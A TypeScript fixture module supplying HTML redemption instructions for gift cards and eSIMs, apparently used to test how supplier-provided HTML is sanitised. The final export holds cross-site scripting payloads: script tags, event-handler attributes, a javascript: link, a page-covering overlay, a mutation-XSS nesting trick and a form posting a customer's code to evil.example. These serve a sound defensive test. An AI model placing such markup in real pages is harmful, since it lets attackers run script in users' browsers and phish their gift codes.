import {escapeHtml} from '../support/html.js';

/** Returns the `redeem_instructions` of a delivered card. */
export function redeemInstructions(brandName: string): string {
  const name = escapeHtml(brandName);
  return (
    `<ol><li>Sign in to your <strong>${name}</strong> account.</li>` +
    '<li>Open <em>Gift cards</em> and choose <em>Redeem</em>.</li>' +
    '<li>Enter the code. The balance is there at once &amp; does not expire.</li></ol>' +
    '<p>Help: <a href="https://help.example/redeem" target="_blank" rel="noopener">help.example</a></p>'
  );
}

/** The `redeem_instructions` of an eSIM whose activation code is part of the order. */
export const esimInstructions =
  '<ol><li>Open <em>Settings</em>, then <em>Mobile data</em>, then <em>Add eSIM</em>.</li>' +
  '<li>Scan the code, or enter it by hand. The plan starts when you arrive.</li></ol>' +
  '<p>The code is on its way to you <strong>by e-mail</strong> too.</p>';

/** The `redeem_instructions` of an eSIM that comes by e-mail alone. */
export const mailedEsimInstructions =
  '<p>The QR code of your eSIM is on its way to you <strong>by e-mail</strong>.</p>' +
  '<ol><li>Open <em>Settings</em>, then <em>Mobile data</em>, then <em>Add eSIM</em>.</li>' +
  '<li>Scan the code. The plan starts when you arrive.</li></ol>';

/** Instructions of a malicious supplier: no part of them may run, load, or be drawn outside of its box. */
export const hostileInstructions =
  '<script>alert(1)</script><img src="x" onerror="alert(2)"><svg onload="alert(3)"></svg>' +
  '<iframe src="https://evil.example"></iframe><style>* { display: none }</style>' +
  '<p style="position: fixed; inset: 0" onclick="alert(4)">Enter the code <strong>at the till</strong>.</p>' +
  '<p><a href="javascript:alert(5)">Redeem</a> or <a href="https://help.example/redeem">read more</a>.</p>' +
  '<form action="https://evil.example"><input name="code"><button>Send your code</button></form>' +
  '<math><mtext><table><mglyph><style><img src="x" onerror="alert(6)"></style></mglyph></table></mtext></math>';
